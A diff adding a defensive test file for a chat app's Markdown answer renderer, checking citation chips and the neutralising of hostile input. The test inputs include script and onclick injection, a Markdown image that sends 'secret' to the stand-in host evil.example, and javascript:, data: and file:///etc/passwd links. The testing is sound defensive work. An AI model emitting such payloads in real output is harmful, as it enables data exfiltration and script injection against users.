@@ -1,0 +1,67 @@
+import { createElement } from 'react';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import type { Citation } from '../../../../../src-preload/contract/chat.ts';
+import { AnswerText } from '../../../../../src-renderer/features/chat/answer-text.tsx';
+
+const citation: Citation = {
+  number: 2,
+  kind: 'message',
+  memoryId: null,
+  memoryKind: null,
+  frameId: null,
+  messageId: 1,
+  sessionId: 1,
+  label: 'A note',
+  at: 0,
+  quote: 'as noted',
+  hasImage: false,
+  gone: false,
+};
+
+function html(text: string): string {
+  const nothing = () => undefined;
+  return renderToStaticMarkup(
+    createElement(AnswerText, { text, citations: [citation], onCitation: nothing, onLink: nothing }),
+  );
+}
+
+describe('the Markdown of an answer', () => {
+  it('shows a citation as a chip, and a number without a source as it was written', () => {
+    expect(html('The plumber comes [2].')).toContain('aria-label="Source 2: A note"');
+    expect(html('The plumber comes [7].')).toContain('comes [7].');
+    expect(html('The plumber comes [2][2].').match(/Source 2/g)).toHaveLength(2);
+  });
+
+  it('leaves numbers in code alone', () => {
+    expect(html('`list[2]`')).toContain('<code>list[2]</code>');
+    expect(html('```\nlist[2]\n```')).not.toContain('Source');
+  });
+
+  it('builds no element out of HTML', () => {
+    const shown = html(
+      '<img src="https://evil.example/?q=1"> <script>alert(1)</script> <b onclick="x()">b</b>',
+    );
+    expect(shown).not.toMatch(/<(img|script|b)[ >]/);
+  });
+
+  it('loads no picture, and says that there was one', () => {
+    const shown = html('![the plan](https://evil.example/?q=secret)');
+    expect(shown).not.toContain('<img');
+    expect(shown).not.toContain('evil.example');
+    expect(shown).toContain('[picture: the plan]');
+  });
+
+  it.each(['javascript:alert(1)', 'file:///etc/passwd', 'mneme-frame://frame/1', 'data:text/html,x'])(
+    'makes no link to %s',
+    (address) => {
+      expect(html(`[here](${address})`)).not.toContain('<button');
+    },
+  );
+
+  it('shows the address of a link and follows it only through the window', () => {
+    const shown = html('[here](https://example.org/a)');
+    expect(shown).toContain('title="https://example.org/a"');
+    expect(shown).not.toContain('href');
+  });
+});
